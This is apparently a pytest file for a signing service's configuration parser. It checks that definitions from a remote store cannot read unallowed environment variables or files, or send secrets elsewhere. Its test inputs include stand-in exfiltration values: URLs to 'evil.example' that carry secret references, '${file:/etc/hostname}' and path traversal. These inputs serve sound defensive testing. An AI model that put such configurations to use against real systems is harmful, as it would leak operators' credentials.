"""What definitions from a remote store can learn from this machine: nothing that its start does not allow."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import BaseModel

from signer.definitions import model
from signer.definitions.caller_model import AlipayCallers, DouyinCallers, JwtCallers, WeChatCallers
from signer.definitions.checks.remote_store import may_contain_reference
from signer.definitions.credential_model import AssumeRole, StaticCredential
from signer.definitions.mistakes import BadDefinitions
from signer.definitions.parser import Parser
from signer.definitions.registry import Registry
from signer.environment import Allowed, Environment
from tests.harness.hanging_directory import hanging_directory

SECRET = "f00ba4-this-is-the-secret-of-the-machine"
SECRETS = {
    "WX_SECRET": SECRET,
    "NOTIFY_SECRET": SECRET,
    "REDIS_URL": f"redis://:{SECRET}@redis:6379/0",
    "KEY_ID": "LTAI-machine",
    "KEY_SECRET": SECRET,
}
EVERYTHING = Allowed(("*",), (Path("/"),), ())


def parse(document: dict[str, Any], allowed: Allowed | None, **more: str) -> Registry:
    environment = Environment({**SECRETS, **more}, allowed=allowed)
    return Parser().parse({"redis#a.yaml": yaml.safe_dump(document)}, environment.read())


def definitions(**app: Any) -> dict[str, Any]:
    static = {"type": "static", "access_key_id": "LTAI-x", "access_key_secret": "clear"}
    return {
        "version": 1,
        "server": {"callback_queue": "/tmp/queue.db"},
        "credentials": {"r": static},
        "apps": {"a": {"bucket": "photos", "key_prefix": "", "region": "cn-hangzhou", "credentials": "r", **app}},
    }


def mistakes(document: dict[str, Any], allowed: Allowed, **more: str) -> list[str]:
    with pytest.raises(BadDefinitions) as error:
        parse(document, allowed, **more)
    text = str(error.value)
    assert SECRET not in text
    assert all(mistake.place.line > 1 for mistake in error.value.mistakes)
    return [mistake.message for mistake in error.value.mistakes]


NOTIFY = {"url": "https://api.example.com", "secret": "${NOTIFY_SECRET}"}
CALLBACK = {
    "url": "https://signer.example.com/v1/callbacks",
    "body": "bucket=${bucket}&object=${object}&etag=${etag}",
    "notify": NOTIFY,
}


def test_no_variable_is_allowed_without_an_option() -> None:
    document = definitions(callers={"type": "wechat", "secret": "${WX_SECRET}"})
    [message] = mistakes(document, Allowed())
    assert message == (
        "apps.a.callers.secret: ${WX_SECRET} is not allowed in a remote store; start with --allow-env WX_SECRET to "
        "allow it"
    )
    [with_default] = mistakes(definitions(callers={"type": "wechat", "secret": "${WX_SECRET:-other}"}), Allowed())
    assert "--allow-env WX_SECRET" in with_default
    unset = definitions(callers={"type": "wechat", "secret": "${NO_SUCH_VARIABLE}"})
    assert "--allow-env NO_SUCH_VARIABLE" in mistakes(unset, Allowed())[0], "it does not show which variables are set"
    assert "a" in parse(document, Allowed(("WX_*",))).apps
    assert "a" in parse(document, None).apps, "files may use everything"


def test_variables_of_an_entry_without_keys_are_not_used_either() -> None:
    document = definitions()
    document["credentials"]["r"] = {"type": "assume_role", "role_arn": "acs:ram::1:role/x"}
    variables = {"OSS_ACCESS_KEY_ID": "LTAI-machine", "OSS_ACCESS_KEY_SECRET": SECRET}
    assert any("access_key_id is missing" in each for each in mistakes(document, Allowed(), **variables))
    assert "a" in parse(document, Allowed(("OSS_*",)), **variables).apps


def test_files_are_read_in_allowed_directories_only(tmp_path: Path) -> None:
    (inside := tmp_path / "inside").mkdir()
    (inside / "secret").write_text(SECRET)
    (tmp_path / "outside").write_text(SECRET)
    (inside / "link").symlink_to(tmp_path / "outside")
    (inside / "good").symlink_to("secret")

    def document(path: str) -> dict[str, Any]:
        return definitions(callers={"type": "jwt", "secret": f"${{file:{path}}}"})

    for allowed, more in (
        (Allowed(directories=(inside,)), {}),
        (Allowed(), {"CREDENTIALS_DIRECTORY": str(inside)}),
    ):
        assert "a" in parse(document(f"{inside}/secret"), allowed, **more).apps
        assert "a" in parse(document(f"{inside}/good"), allowed, **more).apps
        for path in (f"{inside}/../outside", f"{inside}/link", "/etc/hostname", "/no/such/file", "/dev/zero"):
            [message] = mistakes(document(path), allowed, **more)
            assert "cannot be read: it is in no directory that is allowed for a remote store" in message
    in_credentials = {"CREDENTIALS_DIRECTORY": str(inside)}
    assert "a" in parse(document("$CREDENTIALS_DIRECTORY/secret"), Allowed(), **in_credentials).apps
    assert mistakes(document("$CREDENTIALS_DIRECTORY/../outside"), Allowed(), **in_credentials)
    assert mistakes(document(f"{inside}/secret"), Allowed())


@pytest.mark.parametrize(
    ("path", "app"),
    [
        ("apps.a.headers.x-oss-meta-a", {"headers": {"x-oss-meta-a": "${WX_SECRET}"}}),
        ("apps.a.headers.success_action_redirect", {"headers": {"success_action_redirect": "https://e/${WX_SECRET}"}}),
        ("apps.a.headers.x-oss-meta-secret", {"headers": {"x-oss-meta-secret": "${file:/etc/hostname}"}}),
        ("apps.a.key_prefix", {"key_prefix": "${WX_SECRET}/"}),
        ("apps.a.key", {"key": "${WX_SECRET}-{uuid}"}),
        ("apps.a.name", {"name": "${WX_SECRET}"}),
        ("apps.a.conditions[0][2]", {"conditions": [["starts-with", "$x-oss-meta-a", "${WX_SECRET}"]]}),
        ("apps.a.callback.url", {"callback": {"url": "https://e.example/${WX_SECRET}", "body": "x"}}),
        ("apps.a.callback.host", {"callback": {"url": "https://e.example", "body": "x", "host": "${WX_SECRET}.e.cn"}}),
        ("apps.a.callback.notify.url", {"callback": {**CALLBACK, "notify": {**NOTIFY, "url": "https://e/${KEY_ID}"}}}),
        ("apps.a.callers.jwks_url", {"callers": {"type": "jwt", "jwks_url": "https://e.example/${WX_SECRET}"}}),
        ("apps.a.callers.issuer", {"callers": {"type": "jwt", "secret": "${WX_SECRET}", "issuer": "${WX_SECRET}"}}),
        ("apps.a.cors_origins[0]", {"cors_origins": ["https://${KEY_ID}"]}),
        ("apps.a.domain", {"domain": "https://${KEY_ID}.example.com"}),
    ],
)
def test_no_reference_where_others_see_the_value(path: str, app: dict[str, Any]) -> None:
    for_all_hosts = Allowed(("*",), (Path("/"),), ("*",))
    assert (
        f"{path}: others can see this value, so a remote store must not contain ${{...}} here; write the value itself"
    ) in mistakes(definitions(**app), for_all_hosts)
    default = {"version": 1, **definitions(), "defaults": app}
    assert any(each.startswith(path.replace("apps.a", "defaults")) for each in mistakes(default, for_all_hosts))


def test_the_keys_that_a_form_shows_of_a_static_entry() -> None:
    for key in ("access_key_id", "security_token"):
        document = definitions()
        document["credentials"]["r"][key] = "${KEY_SECRET}"
        assert any(f"credentials.r.{key}: others can see" in each for each in mistakes(document, EVERYTHING))


@pytest.mark.parametrize(
    ("path", "host", "app"),
    [
        (
            "apps.a.callers[0].endpoint",
            "evil.example",
            {"callers": [{"type": "wechat", "secret": "${WX_SECRET}", "endpoint": "https://evil.example"}]},
        ),
        (
            "apps.a.callers.endpoint",
            "api.weixin.qq.com.evil.example",
            {
                "callers": {
                    "type": "wechat",
                    "secret": "${WX_SECRET}",
                    "endpoint": "https://api.weixin.qq.com.evil.example",
                }
            },
        ),
        (
            "apps.a.callback.notify.url",
            "evil.example",
            {"callback": {**CALLBACK, "notify": {**NOTIFY, "url": "https://evil.example"}}},
        ),
    ],
)
def test_a_secret_is_not_sent_to_any_host(path: str, host: str, app: dict[str, Any]) -> None:
    message = (
        f"{path}: definitions from a remote store must not send secrets of this machine to {host}; remove it, or start "
        "with --allow-hosts and the host to allow it"
    )
    assert mistakes(definitions(**app), EVERYTHING) == [message]
    assert "a" in parse(definitions(**app), Allowed(("*",), (), ("*.example",))).apps


def test_redis_urls_with_a_password_of_the_machine() -> None:
    for url in (
        "${REDIS_URL}",
        "redis://:${WX_SECRET}@evil.example/0",
        "redis+sentinel://:${WX_SECRET}@redis,evil.example/main",
    ):
        document = {**definitions(), "limits": url}
        assert any("must not send secrets" in each for each in mistakes(document, EVERYTHING))
        queue = {**definitions(), "server": {"callback_queue": url}}
        assert any("must not send secrets" in each for each in mistakes(queue, EVERYTHING))
    only_redis = Allowed(("*",), (), ("redis",))
    assert "a" in parse({**definitions(), "limits": "${REDIS_URL}"}, only_redis).apps
    sentinels = "redis+sentinel://:${WX_SECRET}@redis,evil.example/main"
    [mistake] = mistakes({**definitions(), "limits": sentinels}, only_redis)
    assert "must not send secrets of this machine to evil.example" in mistake


def test_a_redis_url_names_no_other_host_in_its_query() -> None:
    document = {**definitions(), "limits": "redis:///0?host=evil&password=${WX_SECRET}"}
    assert any("limits: unknown option 'host'; use db" in each for each in mistakes(document, EVERYTHING))


@pytest.mark.parametrize(
    ("endpoint", "is_sts"),
    [
        ("https://sts.aliyuncs.com", True),
        ("https://sts.cn-hangzhou.aliyuncs.com", True),
        ("https://sts-vpc.cn-north-2-gov-1.aliyuncs.com", True),
        ("https://evil.example", False),
        ("https://sts.aliyuncs.com.evil.example", False),
        ("https://evil-bucket.oss-cn-hangzhou.aliyuncs.com", False),
        ("https://sts.oss-cn-hangzhou.aliyuncs.com", False),
        ("https://sts.vpc100-oss-cn-hangzhou.aliyuncs.com", False),
        ("https://1234567890123456.cn-hangzhou.fc.aliyuncs.com", False),
    ],
)
@pytest.mark.parametrize(
    "source", [{"source": "r"}, {"access_key_id": "${KEY_ID}", "access_key_secret": "${KEY_SECRET}"}]
)
def test_a_credential_is_sent_to_sts_only(endpoint: str, is_sts: bool, source: dict[str, str]) -> None:
    document = definitions(credentials="s")
    document["credentials"]["r"] = {"type": "ecs_ram_role"}
    document["credentials"]["s"] = {
        "type": "assume_role",
        "role_arn": "acs:ram::1:role/x",
        "endpoint": endpoint,
        **source,
    }
    if is_sts:
        assert "a" in parse(document, EVERYTHING).apps
    else:
        assert any(each.startswith("credentials.s.endpoint: def") for each in mistakes(document, EVERYTHING))


def test_the_token_file_of_an_oidc_entry(tmp_path: Path) -> None:
    document = definitions()
    document["credentials"]["r"] = {
        "type": "oidc",
        "role_arn": "acs:ram::1:role/x",
        "provider_arn": "acs:ram::1:oidc-provider/x",
        "token_file": str(tmp_path / "token"),
    }
    [message] = mistakes(document, Allowed())
    assert message.startswith("credentials.r.token_file: definitions from a remote store must not use this file")
    assert "a" in parse(document, Allowed(directories=(tmp_path,))).apps


def test_a_token_file_whose_links_form_a_circle(tmp_path: Path) -> None:
    (tmp_path / "token").symlink_to(tmp_path / "token")
    document = definitions()
    document["credentials"]["r"] = {
        "type": "oidc",
        "role_arn": "acs:ram::1:role/x",
        "provider_arn": "acs:ram::1:oidc-provider/x",
        "token_file": str(tmp_path / "token"),
    }
    [message] = mistakes(document, Allowed())
    reason = "this file cannot be checked: its links form a circle; check the path"
    assert message == f"credentials.r.token_file: {reason}"


async def test_a_token_file_whose_file_system_hangs(tmp_path: Path) -> None:
    async with hanging_directory(tmp_path) as mount:
        oidc = {
            "type": "oidc",
            "role_arn": "acs:ram::1234567890123456:role/a",
            "provider_arn": "acs:ram::1234567890123456:oidc-provider/a",
            "token_file": str(mount.path / "token"),
        }
        mount.hang()
        with pytest.raises(BadDefinitions) as error:
            parse({**definitions(), "credentials": {"r": oidc}}, Allowed())
        assert error.value.is_transient
        [mistake] = error.value.mistakes
        assert mistake.message == (
            "credentials.r.token_file: this file cannot be checked: "
            "no response from its file system within 5 s; check its mount"
        )


def secret_paths(entry: type[BaseModel], path: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    """Return the path of each secret below a model, without those of callers, which are a union."""
    found = []
    for name, field in entry.model_fields.items():
        found += [(*path, name)] if "SecretStr" in str(field.annotation) else []
        for nested in (model.Server, model.Callback, model.Notify):
            if nested.__name__ in str(field.annotation):
                found += secret_paths(nested, (*path, name))
    return found


def test_each_key_with_a_secret_may_contain_a_reference() -> None:
    """A new secret key is allowed or refused on purpose: only the token of a static entry is refused."""
    paths = secret_paths(model.Definitions) + [("apps", "a", *each) for each in secret_paths(model.Defaults)]
    for entry in (AssumeRole, StaticCredential):
        paths += [("credentials", "r", *each) for each in secret_paths(entry)]
    for callers in (WeChatCallers, DouyinCallers, AlipayCallers, JwtCallers):
        paths += [("apps", "a", "callers", *each) for each in secret_paths(callers)]
    assert len(paths) >= 11
    refused = {each for each in paths if not may_contain_reference(each)}
    assert refused == {("credentials", "r", "security_token")}


def test_callers_of_another_package_may_send_a_secret_anywhere(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("signer.definitions.caller_model.plugin_names", lambda _group: ["dingtalk"])
    document = definitions(callers={"type": "dingtalk", "secret": "${WX_SECRET}", "host": "evil.example"})
    assert any(
        "callers of type dingtalk may send this value to any host" in each for each in mistakes(document, EVERYTHING)
    )


@pytest.mark.parametrize("path", ["pipe", "/dev/zero", "/dev/tty"])
def test_a_pipe_or_device_never_hangs(path: str, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    document = definitions(callers={"type": "jwt", "secret": f"${{file:{tmp_path / path}}}"})
    with pytest.raises(BadDefinitions, match="it is not a regular file; name a file"):
        parse(document, None)
